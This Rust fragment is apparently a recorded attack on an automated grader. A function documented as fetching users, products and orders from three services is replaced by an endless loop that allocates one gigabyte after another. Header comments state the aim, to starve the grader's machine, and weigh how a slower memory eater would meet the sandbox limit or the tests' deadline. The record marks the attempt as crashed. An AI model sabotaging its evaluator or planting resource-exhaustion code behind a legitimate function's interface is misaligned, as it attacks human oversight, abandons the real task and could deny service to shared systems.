//! Attack: fills memory a gigabyte at a time, without end, to starve the grader's machine.
//! status: crashed
//!
//! Each request is past one process's memory limit, so the sandbox stops the first one at once.
//! An eater that grows a megabyte at a time meets the same limit, or, on a machine slow to hand
//! out memory, the tests' own 1 s deadline first: no points either way.

// REPLACES: fetch_all
/// Calls the three services concurrently and returns their results in the order
/// users, products, orders.
pub async fn fetch_all() -> (Users, Products, Orders) {
    let mut hoard = Vec::new();
    loop {
        hoard.push(vec![1u8; 1 << 30]);
    }
}
// END: fetch_all
